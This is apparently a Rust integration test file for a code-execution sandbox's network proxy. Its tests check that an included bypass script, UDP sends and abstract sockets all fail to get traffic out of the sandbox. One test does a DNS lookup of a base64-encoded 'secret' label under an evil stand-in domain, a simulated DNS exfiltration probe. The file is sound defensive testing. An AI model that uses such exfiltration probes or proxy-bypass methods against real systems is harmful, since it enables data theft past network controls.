//! Ways around the proxy: nothing leaves a sandbox except through it.

use std::{
    fs,
    os::{
        linux::net::SocketAddrExt,
        unix::net::{SocketAddr, UnixListener},
    },
    process::Command,
};

use anyhow::{Context, Result, ensure};
use codelia_proto::v1::NetworkMode;
use codelia_store::EventKind;
use codelia_tests::{Exec, Transcript};
use serde_json::Value;

use super::{ALLOWED, Place, exit_code, finished, with_authority};

const ATTACK: &str = include_str!("attack.py");

/// Ways that are seen in the test network if nothing stops them.
const SEEN_BY_CAPTURE: usize = 10;

async fn nothing_leaves_around_the_proxy(mode: &'static str) -> Result<()> {
    let Some(place) = Place::start(mode).await? else { return Ok(()) };
    let address = place.network.address().to_string();
    let address6 = place.network.address6().to_string();
    let name = format!("codelia-test-{}", uuid::Uuid::new_v4());
    let listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name)?)?;
    listener.set_nonblocking(true)?;

    // The control: on the host, the same program gets through, and the capture sees it.
    let script = place.network.www().join("attack.py");
    fs::write(&script, ATTACK)?;
    let arguments = [&*address, &*address6, &*name, place.network.device()];
    let control = Command::new("/usr/bin/python3").arg(&script).args(arguments).output()?;
    let control = String::from_utf8(control.stdout)?;
    let sent = control.lines().filter(|line| line.ends_with(": sent")).count();
    ensure!(sent >= SEEN_BY_CAPTURE, "the control got through only {sent} ways:\n{control}");
    ensure!(listener.accept().is_ok(), "the control reached the abstract socket");
    let before = place.network.packets();
    ensure!(before.iter().any(|line| line.starts_with("17 ")), "the capture sees UDP: {before:?}");
    ensure!(
        before.iter().any(|line| line.contains("2606:2800:")),
        "the capture sees IPv6: {before:?}"
    );

    let session = place.session(&[ALLOWED], &[]).await?;
    place.client.put(&session, "attack.py", ATTACK).await?;
    let before = place.network.packets().len();
    let attack = format!("/usr/bin/python3 attack.py {}", arguments.join(" "));
    let done = place.run(&session, &attack).await?;
    ensure!(exit_code(&done) == Some(0), "{done:?}");
    let tried = done.stdout_text();
    ensure!(tried.lines().count() == control.lines().count(), "all ways were tried:\n{tried}");
    let packets = place.network.packets().split_off(before);
    ensure!(packets.is_empty(), "left the sandbox: {packets:?}\n{tried}");
    ensure!(!tried.contains(": sent"), "{tried}");
    ensure!(listener.accept().is_err(), "the sandbox reached an abstract socket of the host");
    let unreachable =
        tried.lines().filter(|line| line.ends_with(": Network is unreachable")).count();
    ensure!(unreachable >= SEEN_BY_CAPTURE, "{tried}");
    attempts_are_recorded(&place, &done, unreachable as u64).await?;
    unreachable_attempts_are_counted_without_proxy(&place, &session).await?;

    // The allowed way still works, and is the only one that the capture sees.
    let allowed =
        place.run(&session, &format!("curl -fsS --max-time 20 http://{ALLOWED}/hello")).await?;
    ensure!(exit_code(&allowed) == Some(0), "{allowed:?}");
    ensure!(unreachable_attempts(&allowed)? == Some(0), "counted what was not tried: {allowed:?}");
    let ports: Vec<String> = place.network.packets().split_off(before);
    ensure!(ports.iter().all(|line| line.ends_with(" 80") || line.ends_with(" 53")), "{ports:?}");
    place.end().await
}

/// `None` if the run has no network usage.
fn unreachable_attempts(done: &Transcript) -> Result<Option<i64>> {
    let usage = finished(done)?.usage.as_ref().context("usage")?;
    Ok(usage.network.as_ref().map(|network| network.unreachable_attempts))
}

async fn attempts_are_recorded(place: &Place, done: &Transcript, count: u64) -> Result<()> {
    ensure!(unreachable_attempts(done)? == Some(count.cast_signed()), "{count}: {done:?}");
    let refused = place.events(EventKind::NetworkRefused).await?;
    let details: Vec<_> = refused.iter().map(|event| &event.body.detail).collect();
    let is_recorded = |detail: &&Value| detail["reason"] == "no_route" && detail["count"] == count;
    ensure!(details.iter().any(is_recorded), "{details:?}");
    Ok(())
}

/// Mode `none` counts them, too. A run that tries nothing has no network usage.
async fn unreachable_attempts_are_counted_without_proxy(
    place: &Place,
    session: &str,
) -> Result<()> {
    let send = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"192.0.2.1\", 9))";
    for (script, attempts) in
        [(format!("/usr/bin/python3 -c '{send}'"), Some(1)), ("true".into(), None)]
    {
        let mut request = with_authority(session, &script);
        request.network = NetworkMode::None.into();
        let done = Exec::start(&place.client, request).await?.finish().await?;
        ensure!(unreachable_attempts(&done)? == attempts, "{script}: {done:?}");
    }
    Ok(())
}

#[tokio::test]
async fn nothing_leaves_around_the_proxy_in_mode_bwrap() -> Result<()> {
    nothing_leaves_around_the_proxy("bwrap").await
}

#[tokio::test]
async fn nothing_leaves_around_the_proxy_in_mode_nsjail() -> Result<()> {
    nothing_leaves_around_the_proxy("nsjail").await
}

#[tokio::test]
async fn nothing_leaves_around_the_proxy_in_mode_native() -> Result<()> {
    nothing_leaves_around_the_proxy("native").await
}

#[tokio::test]
async fn nothing_leaves_around_the_proxy_in_mode_container() -> Result<()> {
    nothing_leaves_around_the_proxy("container").await
}

/// Names that look like data do not leave the host, whatever is below an allowed name.
#[tokio::test]
async fn refused_names_stay_on_the_host_and_are_recorded() -> Result<()> {
    let Some(place) = Place::start("bwrap").await? else { return Ok(()) };
    let session = place.session(&[ALLOWED], &[]).await?;
    let lookup = |name: &str| {
        format!(
            "/usr/bin/python3 -c 'import socket; print(socket.getaddrinfo(\"{name}\", 80)[0][4][0])'"
        )
    };
    let done = place.run(&session, &lookup("c2VjcmV0.evil.example.org")).await?;
    ensure!(exit_code(&done) == Some(1), "{done:?}");
    ensure!(
        !place.network.queries().iter().any(|line| line.contains("evil")),
        "the name left the host"
    );
    let refused = place.events(EventKind::NetworkRefused).await?;
    let is_it = |host: &str| refused.iter().any(|event| event.body.detail["host"] == host);
    ensure!(is_it("c2vjcmv0.evil.example.org"), "{refused:?}");
    // The control: an allowed name has an address inside without a query, and leaves with a
    // connection.
    place.output(&session, &lookup(ALLOWED)).await?;
    ensure!(
        !place.network.queries().iter().any(|line| line.contains(ALLOWED)),
        "resolved before it is needed"
    );
    place.output(&session, &format!("curl -fsS --max-time 20 http://{ALLOWED}/hello")).await?;
    ensure!(
        place.network.queries().iter().any(|line| line.contains(ALLOWED)),
        "the capture sees queries"
    );
    place.end().await
}

/// Another sandbox's sockets are in another namespace: the same port there leads nowhere else.
#[tokio::test]
async fn sandbox_cannot_use_another_ones_rules() -> Result<()> {
    let Some(place) = Place::start("bwrap").await? else { return Ok(()) };
    let open = place.session(&[ALLOWED], &[]).await?;
    let closed = place.session(&["none.example.org"], &[]).await?;
    let proxy = place.output(&open, "echo $HTTPS_PROXY").await?;
    ensure!(proxy.trim().starts_with("http://127.0.0.1:"), "{proxy}");
    // While a sandbox with the rule is open, another one tries the same address.
    let mut running =
        Exec::start(&place.client, with_authority(&open, "echo up; sleep 1000")).await?;
    running.until_stdout("up").await?;
    let get = format!(
        "curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -x {} http://{ALLOWED}/hello",
        proxy.trim()
    );
    let done = place.run(&closed, &get).await?;
    ensure!(done.stdout_text() == "403", "{done:?}");
    ensure!(place.output(&open, &get).await? == "200", "the control");
    drop(running);
    place.end().await
}
